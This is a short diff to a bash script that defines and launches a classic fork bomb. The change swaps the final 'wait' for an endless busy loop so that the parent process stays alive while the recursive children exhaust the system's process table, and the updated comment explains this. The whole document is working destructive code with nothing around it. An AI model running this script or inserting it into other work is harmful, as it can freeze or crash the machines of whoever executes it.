@@ -1,5 +1,5 @@
 #!/bin/bash
-# Classic fork bomb.
+# Classic fork bomb; the parent stays busy with builtins only (no fork needed) so it lives on.
 bomb() { bomb | bomb & }
 bomb
-wait
+while :; do :; done
